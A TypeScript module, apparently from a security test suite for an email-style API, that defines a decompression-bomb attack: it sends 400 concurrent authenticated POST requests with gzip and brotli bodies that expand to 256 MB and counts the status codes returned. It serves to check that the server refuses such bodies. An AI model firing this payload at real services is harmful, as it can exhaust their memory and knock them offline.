import { brotliCompressSync, constants, gzipSync } from 'node:zlib'
import type { Attack, Target } from '../define-attack.ts'

const REQUESTS = 400
const AT_ONCE = 100
const FAST = { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } }
const INFLATED_BYTES = 256 * 1024 * 1024

/** Sends bodies of some hundred kilobytes that would become 256 MB; says how many had each status. */
async function sendAll({ url, unlimited, signal }: Target): Promise<string> {
  const zeros = Buffer.alloc(INFLATED_BYTES, '0')
  const bodies = [
    { encoding: 'gzip', body: gzipSync(zeros) },
    { encoding: 'br', body: brotliCompressSync(zeros, FAST) },
  ]
  const statuses = new Map<string, number>()
  let next = 0
  const sendOn = async () => {
    while (next < REQUESTS && !signal.aborted) {
      const { encoding, body } = bodies[next % bodies.length] ?? { encoding: '', body: '' }
      const path = next % 4 < 2 ? '/v1/send' : '/contacts'
      next += 1
      const headers = {
        authorization: `Bearer ${unlimited.secret}`,
        'content-type': 'application/json',
        'content-encoding': encoding,
      }
      const answer = await fetch(`${url}${path}`, { method: 'POST', headers, body, signal }).catch(() => null)
      await answer?.arrayBuffer().catch(() => null)
      const status = String(answer?.status ?? 'no answer')
      statuses.set(status, (statuses.get(status) ?? 0) + 1)
    }
  }
  await Promise.all(Array.from({ length: AT_ONCE }, sendOn))
  return [...statuses].map(([status, count]) => `${count} × ${status}`).join(', ')
}

export const compressedBodies: Attack = {
  name: 'compressed bodies that become 256 MB',
  before: 'compressed bodies were not taken',
  run: sendAll,
}
